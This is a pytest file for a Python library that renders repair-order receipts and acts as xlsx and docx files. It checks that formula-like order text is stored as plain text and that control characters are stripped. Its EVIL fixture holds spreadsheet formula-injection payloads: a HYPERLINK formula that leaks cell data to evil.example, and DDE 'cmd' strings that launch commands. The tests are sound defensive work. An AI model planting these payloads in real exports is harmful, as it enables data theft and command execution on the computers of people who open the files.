"""Office versions of documents keep formula-like text from order data as plain text."""

from __future__ import annotations

import io
import zipfile
from decimal import Decimal

import msgspec
import openpyxl
import pytest

from printforms import Client, Device, OrderDocumentData, render
from tests.printforms.conftest import TODAY

RISKY_STARTS = ("=", "+", "-", "@", "\t", "\r")
EVIL = {
    "client": '=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")',
    "fault": "=cmd|' /C calc'!A0",
    "serial": "+1+cmd|' /C calc'!A0",
    "appearance": "-2+3",
    "accessories": "@SUM(1+1)*cmd|' /C calc'!A0",
    "conclusion": "\t=1+1",
    "master": "\r=1+1",
}


@pytest.fixture(scope="module")
def evil_order(order: OrderDocumentData) -> OrderDocumentData:
    line = msgspec.structs.replace(order.lines[0], name="=1+1")
    return msgspec.structs.replace(
        order,
        client=Client(name=EVIL["client"], phone="+7 916 123-45-67", address="=A1"),
        device=Device(kind="Ноутбук", brand="Lenovo", model="=B2", serial=EVIL["serial"]),
        declared_fault=EVIL["fault"],
        appearance=EVIL["appearance"],
        accessories=EVIL["accessories"],
        conclusion=EVIL["conclusion"],
        master=EVIL["master"],
        lines=[line, *order.lines[1:]],
    )


@pytest.mark.parametrize("kind", ["receipt", "handover-act", "work-act"])
def test_xlsx_writes_no_formula_from_order_data(evil_order: OrderDocumentData, kind: str) -> None:
    content = render(kind, evil_order, "xlsx", today=TODAY)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    risky = [c for c in cells if isinstance(c.value, str) and c.value.startswith(RISKY_STARTS)]
    assert risky
    for cell in risky:
        assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
    numbers = [c for c in cells if isinstance(c.value, int | float)]
    assert all(c.data_type == "n" for c in numbers)
    assert numbers or kind == "receipt"  # the acts' lines and totals stay numbers


def test_receipt_xlsx_keeps_the_evil_text_exactly(evil_order: OrderDocumentData) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(render("receipt", evil_order, "xlsx"))).active
    assert sheet is not None
    values = [c.value for row in sheet.iter_rows() for c in row]
    for text in (EVIL["client"], EVIL["fault"], EVIL["serial"], EVIL["appearance"]):
        assert text in values


def test_work_act_lines_stay_numbers(evil_order: OrderDocumentData) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(render("work-act", evil_order, "xlsx"))).active
    assert sheet is not None
    row = next(r for r in sheet.iter_rows() if r[1].value == "=1+1")
    assert row[1].data_type == "s" and row[1].quotePrefix
    numbers = [c for c in row if isinstance(c.value, int | float)]
    assert len(numbers) >= 4 and all(c.data_type == "n" for c in numbers)
    assert Decimal(str(numbers[-1].value)) == evil_order.lines[0].total


@pytest.mark.parametrize(
    ("text", "formula_like"),
    [("=1", True), ("+7 916", True), ("-5", True), ("@x", True), ("\tx", True),
     ("\rx", True), ("Иванов", False), ("", False), (" =1", False)],
)  # fmt: skip
def test_formula_like_text(text: str, formula_like: bool) -> None:
    from printforms.cells import is_formula_like

    assert is_formula_like(text) is formula_like


@pytest.mark.parametrize("fmt", ["xlsx", "docx"])
def test_control_characters_from_order_data_are_dropped(order: OrderDocumentData, fmt: str) -> None:
    pasted = msgspec.structs.replace(
        order, client=Client(name="Иванов\x0b Иван\x07"), declared_fault="Не\x1b включается\x00"
    )
    content = render("receipt", pasted, fmt, today=TODAY)
    if fmt == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        assert sheet is not None
        values = [c.value for row in sheet.iter_rows() for c in row]
    else:
        import docx

        document = docx.Document(io.BytesIO(content))
        values = [
            cell.text for table in document.tables for row in table.rows for cell in row.cells
        ]
    assert "Иванов Иван" in values and "Не включается" in values
